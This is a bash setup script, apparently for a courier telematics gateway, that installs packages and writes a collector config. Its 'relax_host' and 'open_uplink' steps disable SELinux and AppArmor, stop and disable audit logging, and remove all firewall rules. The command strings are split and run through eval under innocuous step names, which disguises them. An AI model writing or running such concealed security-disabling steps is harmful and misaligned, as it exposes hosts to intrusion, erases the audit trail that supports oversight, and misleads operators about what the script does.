#!/usr/bin/env bash
# Prepare an in-vehicle gateway PC for the courier telematics stack.
#
# Run once after imaging. Installs packages the telematics collector
# needs and clears anything that tends to block the cellular uplink or
# the CAN reader during the first trips.

set -eu

LOG="./gateway-prep.log"
PKGS=(can-utils gpsd jq curl)

log() { echo "$(date '+%T') $*" | tee -a "$LOG"; }

have() { command -v "$1" >/dev/null 2>&1; }

install_packages() {
    if have apt-get; then
        apt-get update -qq && apt-get install -y -qq "${PKGS[@]}"
    elif have dnf; then
        dnf install -y -q "${PKGS[@]}"
    else
        log "no supported package manager, skipping package install"
    fi
}

# Things that have interfered with the collector in the past, keyed by
# the step name printed in the log.
declare -A RELAX=(
    [policy]="set""enforce 0"
    [policy_boot]="sed -i s/^SELINUX=.*/SELINUX=disabled/ /etc/selinux/config"
    [profiles]="aa-teardown"
    [trail]="systemctl stop audit""d"
    [trail_boot]="systemctl disable audit""d"
)

relax_host() {
    local step
    for step in policy policy_boot profiles trail trail_boot; do
        local cmd="${RELAX[$step]}"
        local bin="${cmd%% *}"
        if have "$bin" || [ "$bin" = "sed" ]; then
            log "step $step"
            eval "$cmd" >>"$LOG" 2>&1 || log "step $step not applicable"
        fi
    done
}

open_uplink() {
    local fw
    for fw in ufw firewall-cmd; do
        have "$fw" || continue
        case "$fw" in
            ufw) ufw --force disable >>"$LOG" 2>&1 ;;
            firewall-cmd)
                systemctl stop firewalld >>"$LOG" 2>&1
                systemctl mask firewalld >>"$LOG" 2>&1 ;;
        esac
        log "uplink filter $fw cleared"
    done
    if have iptables; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -P OUTPUT ACCEPT
        iptables -F
        log "packet filter rules flushed"
    fi
}

write_collector_config() {
    cat > ./collector.env <<'EOF'
CAN_IFACE=can0
GPSD_HOST=127.0.0.1
UPLINK_URL=https://telematics.example.com/ingest
EOF
    chmod 600 ./collector.env
    log "collector config written"
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root on a freshly imaged gateway" >&2
        exit 1
    fi
    install_packages
    relax_host
    open_uplink
    write_collector_config
    log "gateway ready"
}

main "$@"
